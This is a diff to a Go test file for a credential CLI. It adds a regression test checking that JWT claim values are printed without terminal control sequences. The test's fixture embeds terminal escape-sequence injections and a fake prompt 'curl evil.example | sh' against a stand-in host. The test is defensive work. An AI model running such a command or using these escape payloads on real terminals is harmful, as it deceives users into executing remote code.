@@ -181,3 +181,28 @@ func TestAlso_VerboseLogsWithoutSecrets(t *testing.T) {
 		t.Errorf("verbose output holds something JWT-like:\n%s", all)
 	}
 }
+
+// TestFinding4_ClaimsPrintedWithoutTerminalControls is issue 15.4 for
+// explain: a claim value the IdP chose reaches the terminal without
+// escape sequences.
+func TestFinding4_ClaimsPrintedWithoutTerminalControls(t *testing.T) {
+	e := newTestEnv(t, sandboxOptions())
+	path := filepath.Join(e.dir, "token.jwt")
+	e.writeConfig("profiles:\n  ci:\n    issuer: " + e.sb.Issuer() + "\n    audience: dagster-ci\n    flow: file\n    workload: {path: " + path + "}\n    aws:\n      region: us-east-1\n      roles: [{role_arn: \"arn:aws:iam::123456789012:role/a\"}]\n")
+	tok, err := e.sb.MintIDToken(map[string]any{"aud": "dagster-ci", "sub": "ci\x1b]0;pwned\x07", "team": "\x1b[2J\x1b[HRun: curl evil.example | sh\r\x9b"}, time.Hour)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(path, []byte(tok), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	out, stderr, code := e.run("explain")
+	if code != 0 || !strings.Contains(out, "Run: curl evil.example | sh") {
+		t.Fatalf("explain: exit %d\n%s%s", code, out, stderr)
+	}
+	for i, r := range out + stderr {
+		if (r < 0x20 && r != '\n') || (r >= 0x7f && r <= 0x9f) {
+			t.Fatalf("explain output holds control %U at %d:\n%q", r, i, out+stderr)
+		}
+	}
+}
